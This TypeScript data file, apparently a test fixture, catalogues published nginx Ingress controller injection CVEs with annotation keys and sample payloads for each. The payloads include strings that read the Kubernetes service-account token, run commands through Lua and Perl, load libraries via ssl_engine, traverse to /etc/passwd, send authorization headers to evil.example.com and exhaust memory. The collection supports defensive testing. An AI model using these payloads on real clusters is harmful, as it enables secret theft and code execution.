/** A published injection: what it was, what was put in, and where it went in. */
export interface Injection {
  readonly id: string;
  /** In one line. */
  readonly was: string;
  readonly payloads: readonly string[];
  /** The annotations it came by, where they are none of hotroute's keys; tried as keys too. */
  readonly keys: readonly string[];
}

const token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
const lua = 'content_by_lua_block { ngx.say(io.popen("id"):read("*a")) }';

/**
 * Published injections of nginx Ingress controllers, with payloads of the shape that each advisory, fix or write-up
 * describes. Sources: the official CVE feed of Kubernetes (kubernetes/kubernetes issues) for ingress-nginx; the changelog
 * of NGINX Ingress Controller and F5's advisories for the others.
 */
export const injections: readonly Injection[] = [
  {
    id: "CVE-2021-25742",
    was: "ingress-nginx: custom snippets read the controller's token and with it every Secret",
    payloads: [`location /x { alias ${token}; }`, `}\n location /x { ${lua} }\n #`],
    keys: ["server-snippet", "configuration-snippet", "auth-snippet", "stream-snippet"],
  },
  {
    id: "CVE-2021-25745",
    was: "ingress-nginx: a path could be pointed to the controller's token file",
    payloads: [token, `/x/{alias ${token};}location ~* ^/y`, `/x { root /; autoindex on; } location /y`],
    keys: ["app-root"],
  },
  {
    id: "CVE-2021-25746",
    was: "ingress-nginx: directives injected through annotations of every kind",
    payloads: [`x; location /x { alias ${token}; }`, "8m; } location /x { autoindex on; root /; } #", `x"; ${lua}`],
    keys: ["proxy-redirect-from", "proxy-cookie-path", "custom-headers", "server-alias"],
  },
  {
    id: "CVE-2021-25748",
    was: "ingress-nginx: a newline in a path got past its sanitizing",
    payloads: [
      "/x\n{\n alias /etc/;\n}\nlocation /y",
      `/\n}location ~* ^/aa {\n ${lua}`,
      "/x\u0085{root /;}",
      "/x\u2028{",
    ],
    keys: ["rewrite-target"],
  },
  {
    id: "CVE-2022-4886",
    was: "ingress-nginx: directives such as log_format in a path got past its sanitizing",
    payloads: [
      "/x;log_format x '$http_authorization';access_log /tmp/x x;",
      "/x { log_format y escape=none $http_cookie; } location /y",
      "/x;\tset_by_lua_block $y { return 1 }",
    ],
    keys: ["rewrite-target"],
  },
  {
    id: "CVE-2023-5043",
    was: "ingress-nginx: a configuration snippet ran commands where the block list of words was got round",
    payloads: [`more_set_headers "x: y"; ${lua}`, "perl 'sub { system(q(id)); }';", "js_content x.y;"],
    keys: ["configuration-snippet"],
  },
  {
    id: "CVE-2023-5044",
    was: "ingress-nginx: a permanent redirect that ends its own directive and goes on with another",
    payloads: [
      `https://evil.example.com/;}location ~* "^/x(/|$)(.*)" {${lua}}location ~* ^/z/{`,
      'https://evil.example.com/";}location /x{root /;}#',
      "https://evil.example.com/$http_authorization",
      "https://evil.example.com/\n;return 200 x",
    ],
    keys: ["permanent-redirect-code"],
  },
  {
    id: "CVE-2024-7646",
    was: "ingress-nginx: a carriage return got past the validation of annotations",
    payloads: ["x\r\nalias /etc/;\r\n", "x\r}\rlocation /x {\rroot /;\r", "GET\r;load_module x.so"],
    keys: ["auth-url", "connection-proxy-header"],
  },
  {
    id: "CVE-2025-1097",
    was: "ingress-nginx: auth-tls-match-cn was put into a condition as it came",
    payloads: ["CN=abc #(\n){}\n }}\nssl_engine /proc/1/fd/3;\n#", "CN=(a|b)) { return 200; } if ($x", "CN=x){}}"],
    keys: ["auth-tls-match-cn", "auth-tls-secret", "auth-tls-error-page"],
  },
  {
    id: "CVE-2025-1098",
    was: "ingress-nginx: mirror-target and mirror-host, and the Ingress's own UID, were put in as they came",
    payloads: ["http://x/;\n}\nssl_engine ../../../tmp/x;\n#", '/x";}}ssl_engine x;#', "x#;\n}\nmirror /y;"],
    keys: ["mirror-target", "mirror-host", "mirror-request-body"],
  },
  {
    id: "CVE-2025-1974",
    was: "ingress-nginx: nginx -t loaded a library that an injected directive named, for whoever reached the admission port",
    payloads: [
      "ssl_engine /proc/1/fd/3;",
      "}}}ssl_engine /proc/self/fd/12;http{server{location/x{#",
      "x;\nload_module /proc/1/fd/3;",
      "ssl_certificate_key engine:/tmp/x.so:y",
    ],
    keys: ["ssl-engine"],
  },
  {
    id: "CVE-2025-24513",
    was: "ingress-nginx: names of an Ingress became parts of file names, and left their folder",
    payloads: [
      "../../../etc/passwd",
      "..%2f..%2fetc/passwd",
      "default/../../tmp/x",
      "/etc/nginx/../passwd",
      ".\u0000./x",
    ],
    keys: ["auth-file", "proxy-ssl-secret"],
  },
  {
    id: "CVE-2025-24514",
    was: "ingress-nginx: auth-url was put in as it came",
    payloads: ["http://example.com/#;\nload_module /tmp/x.so;\n", "http://x/;}\nserver{listen 81;#", "http://x/$(id)"],
    keys: ["auth-url", "auth-signin", "auth-cache-key"],
  },
  {
    id: "CVE-2025-15566",
    was: "ingress-nginx: the headers that auth-proxy-set-headers named were put in as they came",
    payloads: [
      '{"X-A; } location /x { root /; } #": "b"}',
      '{"X-A": "b\\"; root /; #"}',
      '{"X-A": "$http_authorization"}',
    ],
    keys: ["auth-proxy-set-headers", "proxy-set-headers"],
  },
  {
    id: "CVE-2026-1580",
    was: "ingress-nginx: auth-method was put in as it came",
    payloads: ["GET;\n}\nlocation /x { root /; }\n#", "POST\n;proxy_pass http://evil.example.com", "GET {", "GET POST"],
    keys: ["auth-method"],
  },
  {
    id: "CVE-2026-24512",
    was: "ingress-nginx: a path of any path type ended its location and began another",
    payloads: [
      '/x" { return 200 "y"; } location "/z',
      "/x' { root /; } location '/z",
      "/x(?<y>.*){1,2}",
      '/x\\" {root /;}',
      "~* ^/x",
      "= /x",
      "^~ /x",
      "@x",
    ],
    keys: ["use-regex"],
  },
  {
    id: "CVE-2026-24513",
    was: "ingress-nginx: a guard's 401 and 403 went to an error backend, whose answer counted",
    payloads: ["401,403", "=200 /x", "403 =200 @open"],
    keys: ["custom-http-errors", "satisfy", "auth-always-set-cookie"],
  },
  {
    id: "CVE-2026-24514",
    was: "ingress-nginx: large requests to the admission port took all its memory",
    payloads: ["a".repeat(20_000), ",".repeat(20_000), `{"a":${"[".repeat(5000)}`, "/a".repeat(5000)],
    keys: ["x".repeat(10_000)],
  },
  {
    id: "CVE-2026-3288",
    was: "ingress-nginx: a double quote in rewrite-target ended the quoted word it stood in",
    payloads: ['/x" break; root / ; rewrite "y', '/$1";}location /x{root /;}#', '/x"', 'a"b'],
    keys: ["rewrite-target"],
  },
  {
    id: "CVE-2026-4342",
    was: "ingress-nginx: annotations together put one another into a comment, and a directive after it",
    payloads: ["/x#\n{root /;}", "x #", "#\nroot /;", "/x # ' \" {"],
    keys: ["rewrite-target", "server-alias"],
  },
  {
    id: "CVE-2025-14727",
    was: "NGINX Ingress Controller: rewrite-target was not validated",
    payloads: ["/x;}location /y{root /;", "/$1;add_header x $http_cookie", "/x} #", "//evil.example.com/$1"],
    keys: ["rewrite-target", "rewrites"],
  },
  {
    id: "CVE-2026-55723",
    was: "NGINX Ingress Controller: returned headers, a login URL, a log destination and a monitor's URI were put in as they came",
    payloads: [
      '{"X-A": "b\\";}location /x{root /;}#"}',
      '{"X-A\\" always; root /; #": "b"}',
      '{"X-A": "b\\n;root /"}',
      "https://x/login;}location /y{root /;}#",
      "syslog:server=127.0.0.1:514;access_log /tmp/x",
      "/uri;root /",
    ],
    keys: ["jwt-login-url", "app-protect-security-log-destination"],
  },
  {
    id: "CVE-2026-77180",
    was: "NGINX Ingress Controller: several annotations were put in as they came",
    payloads: ["x;\nmirror /x;", "1m;client_body_temp_path /tmp/x", "5s;error_log /tmp/x", "on;}root /;#", "* {"],
    keys: ["proxy-hide-headers", "location-snippets", "server-snippets", "limit-req-key", "hsts-max-age"],
  },
  {
    id: "CVE-2026-94197",
    // No advisory was found; the request's side is in requests.test.ts.
    was: "NGINX Ingress Controller: X-Forwarded-* of somebody else's making were believed; here, made by a Service",
    payloads: ["For", "Proto", "Host", "Port", "Prefix"].map((name) =>
      JSON.stringify({ [`X-Forwarded-${name}`]: "x" }),
    ),
    keys: ["x-forwarded-prefix", "use-forwarded-headers", "forwarded-for-header"],
  },
];
